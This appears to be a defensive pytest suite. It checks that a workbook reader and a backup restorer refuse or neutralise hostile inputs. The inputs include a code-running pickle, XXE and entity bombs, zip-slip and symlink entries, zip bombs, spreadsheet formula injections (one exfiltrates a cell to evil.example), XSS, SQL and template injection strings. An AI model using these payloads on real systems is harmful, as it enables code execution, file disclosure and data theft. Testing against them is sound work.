"""Workbooks and backups made hostile: each is refused in words or taken as plain values; nothing runs or leaks."""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import stat
import zipfile
from collections.abc import Callable, Mapping
from datetime import UTC, date, datetime
from hashlib import sha256
from pathlib import Path

import publish_frames as frames
import pytest
from areakit import NOW
from workbook_kit import KEY, Edited, at, entries, made

from hiu.errors import HiuError, InputRefused
from hiu.govern.init import init_site
from hiu.publish.workbook.back.returned import read_back
from pipelines.access.disclose import record_files
from pipelines.back.backup import CURATED, backup, require_parts
from pipelines.back.restore import restore
from pipelines.common.journal import record
from pipelines.common.place import Place, open_place

Parts = dict[str, bytes]
SENTINEL = "ran.txt"


class _Runs:
    """What a pickle would do if anybody loaded it."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch {SENTINEL}",)


PICKLE = pickle.dumps(_Runs())
ENTRY = "xl/worksheets/sheet3.xml"


@pytest.fixture(autouse=True)
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working folder, in which nothing may appear."""
    folder = tmp_path / "here"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture(scope="module")
def sent() -> bytes:
    return made()


def packed(parts: Mapping[str, bytes], *more: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        for info, content in more:
            archive.writestr(info, content)
    return out.getvalue()


def link(name: str) -> tuple[zipfile.ZipInfo, bytes]:
    """An entry that an unwary unpacker makes a symbolic link of."""
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info, b"/etc/passwd"


def doctype(parts: Parts, name: str, entity: bytes) -> Parts:
    head, _, rest = parts[name].partition(b"?>")
    if not rest:
        head, rest = b'<?xml version="1.0"', parts[name]
    return {**parts, name: head + b"?><!DOCTYPE x [" + entity + b"]>" + rest}


def bombs(parts: Parts) -> Parts:
    return doctype(parts, ENTRY, b'<!ENTITY a "aaaaaaaaaa">' + b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">')


WORKBOOKS: dict[str, Callable[[Parts], bytes]] = {
    "a pickle": lambda _: PICKLE,
    "a pickle inside": lambda parts: packed({**parts, ENTRY: PICKLE}),
    "nothing": lambda _: b"",
    "half of it": lambda parts: packed(parts)[: len(packed(parts)) // 2],
    "an old format": lambda _: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096),
    "text": lambda _: b"name,consent\r\nx,Given\r\n",
    "a bomb beside": lambda parts: packed({**parts, "xl/media/x.png": bytes(60_000_000)}),
    "a bomb for a sheet": lambda parts: packed({**parts, ENTRY: parts[ENTRY] + b" " * 60_000_000}),
    "entities that grow": lambda parts: packed(bombs(parts)),
    "an entity that names a file": lambda parts: packed(
        doctype(parts, ENTRY, b'<!ENTITY a SYSTEM "file:///etc/passwd">')
    ),
    "an entity that calls out": lambda parts: packed(
        doctype(parts, "xl/sharedStrings.xml", b'<!ENTITY % a SYSTEM "http://127.0.0.1:9/x"> %a;')
    ),
    "a sheet of another kind": lambda parts: packed({**parts, ENTRY: b"<html>"}),
    "no hidden sheet": lambda parts: packed({n: b for n, b in parts.items() if not n.endswith("sheet7.xml")}),
    "a list that names another folder": lambda parts: packed(
        {n: b.replace(b"worksheets/sheet3.xml", b"../../../../etc/passwd") for n, b in parts.items()}
    ),
}
BESIDE: dict[str, tuple[tuple[zipfile.ZipInfo, bytes], ...]] = {
    "a path above": ((zipfile.ZipInfo("../../evil.txt"), b"x"),),
    "a path from the root": ((zipfile.ZipInfo("/tmp/evil.txt"), b"x"),),
    "a link": (link("xl/linked.xml"),),
    "a macro": ((zipfile.ZipInfo("xl/vbaProject.bin"), PICKLE),),
    "another book": ((zipfile.ZipInfo("xl/externalLinks/externalLink1.xml"), b"<x/>"),),
}


@pytest.mark.parametrize("kind", WORKBOOKS)
def test_a_workbook_that_is_none_is_refused(kind: str, sent: bytes, elsewhere: Path) -> None:
    with pytest.raises(InputRefused) as refused:
        read_back(WORKBOOKS[kind](Edited(sent).parts), "back.xlsx", KEY)
    assert "root:" not in str(refused.value) and str(refused.value).isprintable()
    assert not list(elsewhere.iterdir())


@pytest.mark.parametrize("kind", BESIDE)
def test_what_is_packed_beside_a_workbook_is_never_unpacked(
    kind: str, sent: bytes, elsewhere: Path, tmp_path: Path
) -> None:
    try:
        found = read_back(packed(Edited(sent).parts, *BESIDE[kind]), "back.xlsx", KEY)
        assert len(found.rows) == 4
    except InputRefused:
        pass
    assert not list(elsewhere.iterdir()) and not list(tmp_path.rglob("evil*")) and not Path("/tmp/evil.txt").exists()


TEXTS = {
    "a formula": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://evil.example/?x="&A1,"see")',
    "a sum of others": "+SUM(1+1)*cmd|' /C calc'!A0",
    "an at sign": "@SUM(1)",
    "a terminal's escape": "\x1b]0;owned\x07\x1b[2Jnotes",
    "right to left": "notes \u202egpj.exe",
    "no width": "no\u200btes",
    "markup": "<script>alert(1)</script>",
    "a template's word": "{{ 7*7 }}${7*7}#{7*7}",
    "SQL": "'); drop table record; --",
    "a path": "../../../../etc/passwd",
    "a very long one": "x" * 32_000,
}


@pytest.mark.parametrize("kind", TEXTS)
def test_a_cell_is_text_and_prints_nothing_that_acts(kind: str, sent: bytes, elsewhere: Path) -> None:
    """Recorded as text or refused; in the next workbook it is no formula, and it has no control character."""
    text = "".join(one if one >= " " else f"_x{ord(one):04X}_" for one in TEXTS[kind])
    copy = Edited(sent).put(at("notes"), text)
    verdict = copy.verdict()
    if not verdict.changes:
        assert [one.code for one in verdict.refused] == ["value"]
        return
    [change] = verdict.changes
    assert all(one.isprintable() or one in " \n" for one in change.new), "nothing that a terminal obeys"
    tables = frames.published(4)
    entry: dict[str, object] = {
        "person_id": change.person_id,
        "field": "notes",
        "value": change.new,
        "author": "A",
        "pack_id": "p",
    }
    entry |= {"month": date(2026, 2, 1), "entered_at": frames.STAMPED, "row_version": 1}
    tables["meeting_entry"] = entries([entry])
    again = Edited(made(tables))
    formulas = re.findall(rb"<f>(.*?)</f>", b"".join(again.parts.values()))
    assert formulas and not [one for one in formulas if b"cmd" in one or b"HYPERLINK" in one]
    assert not any("hyperlink" in part.casefold() for part in again.parts)
    assert not list(elsewhere.iterdir())


@pytest.fixture
def site(tmp_path: Path) -> Place:
    """A site with a log; its database is a file that nobody opens here."""
    init_site(tmp_path / "site", name="S", synthetic=True, today=date(2026, 4, 1), sources=["police"])
    place = open_place(tmp_path / "site")
    place.warehouse.write_bytes(b"as it was")
    record(place, NOW, "run_started", month="2026-03", **record_files(place))
    return place


Lies = Callable[[dict[str, object]], object]


def crafted(place: Place, to: Path, change: Callable[[Parts], Parts], lies: Lies) -> Path:
    """A backup with other contents; its list fits them, but for what `lies` makes of it."""
    with zipfile.ZipFile(backup(place, to / "copies", now=NOW).path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    about = json.loads(parts.pop("BACKUP.json"))
    parts = change(parts)
    about["files"] = {name: {"bytes": len(b), "sha256": sha256(b).hexdigest()} for name, b in parts.items()}
    lies(about)
    (to / "evil.zip").write_bytes(packed({"BACKUP.json": json.dumps(about).encode(), **parts}))
    return to / "evil.zip"


NAMES = (
    "../evil.txt", "/tmp/evil.txt", "C:/evil.txt", "curated/records/CON.jsonl", "curated/records/nul", "curated\\evil",
    "curated/records/\x1b[2J.jsonl", "curated/a/../../../evil", "site.toml ", "curated/reads.key", "sources/a/b.toml",
    ".ssh/authorized_keys", "curated/records/x.pkl", "sources/evil.py", "expectations/evil.pkl", "curated//evil",
    "curated/published/../../evil",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_backup_with_a_name_that_leads_elsewhere_is_refused(name: str, site: Place, tmp_path: Path) -> None:
    evil = crafted(site, tmp_path, lambda parts: {**parts, name: PICKLE}, lambda _: None)
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    with pytest.raises(HiuError) as refused:
        restore(evil, tmp_path / "new", replace=False, now=datetime(2026, 4, 9, tzinfo=UTC))
    assert str(refused.value).isprintable() and not (tmp_path / "new").exists()
    assert {path for path in tmp_path.rglob("*") if path.is_file()} == before


LISTS: dict[str, Lies] = {
    "smaller than it is": lambda about: about["files"]["site.toml"].update(bytes=1),  # type: ignore[index]
    "of negative size": lambda about: about["files"]["site.toml"].update(bytes=-1),  # type: ignore[index]
    "of no size": lambda about: about["files"]["site.toml"].update(bytes="many"),  # type: ignore[index]
    "of another digest": lambda about: about["files"]["site.toml"].update(sha256="0" * 64),  # type: ignore[index]
    "with an entry too many": lambda about: about["files"].update({"curated/x": {"bytes": 0, "sha256": ""}}),  # type: ignore[attr-defined]
    "without its files": lambda about: about.pop("files"),
    "that is a list": lambda about: about.update(files=[]),
    "of a later form": lambda about: about.update(form=99),
    "of a form that is none": lambda about: about.update(form="x"),
}


@pytest.mark.parametrize("kind", LISTS)
def test_a_backup_whose_list_lies_is_refused(kind: str, site: Place, tmp_path: Path) -> None:
    evil = crafted(site, tmp_path, lambda parts: parts, LISTS[kind])
    with pytest.raises(HiuError):
        restore(evil, tmp_path / "new", replace=False, now=datetime(2026, 4, 9, tzinfo=UTC))
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("kind", ["a link", "a bomb", "twice"])
def test_a_backup_s_entries_are_files_and_no_larger_than_listed(kind: str, site: Place, tmp_path: Path) -> None:
    made_ = crafted(site, tmp_path, lambda parts: parts, lambda _: None)
    with zipfile.ZipFile(made_) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    if kind == "a link":
        content = packed({n: b for n, b in parts.items() if n != "curated/audit.jsonl"}, link("curated/audit.jsonl"))
    elif kind == "a bomb":
        content = packed({**parts, "site.toml": parts["site.toml"] + b" " * 20_000_000})
    else:
        content = packed(parts, (zipfile.ZipInfo("site.toml"), b'raw = "/etc"\n'))
    made_.write_bytes(content)
    with pytest.raises(HiuError):
        restore(made_, tmp_path / "new", replace=False, now=datetime(2026, 4, 9, tzinfo=UTC))
    assert not (tmp_path / "new").exists()


NAMES_OF_WINDOWS = [
    "CON",
    "nul.txt",
    "NUL .txt",
    "COM\u00b9.csv",
    "LPT9",
    "CONIN$",
    "conout$.json",
    "con/a.parquet",
    "a\tb",
]
NAMES_OF_WINDOWS += ["a.", "a ", "a.parquet. ", "folder./a.parquet", "folder /a.parquet", "A.parquet"]


@pytest.mark.parametrize("name", NAMES_OF_WINDOWS)
def test_a_backup_with_a_name_that_windows_reads_as_another_is_refused(name: str) -> None:
    own = ["site.toml", f"{CURATED}published/2026-03/a.parquet"]
    require_parts(own, Path("b.zip"))
    with pytest.raises(HiuError, match="a name that Windows keeps for itself") as refused:
        require_parts([*own, f"{CURATED}published/2026-03/{name}"], Path("b.zip"))
    assert str(refused.value).isprintable()
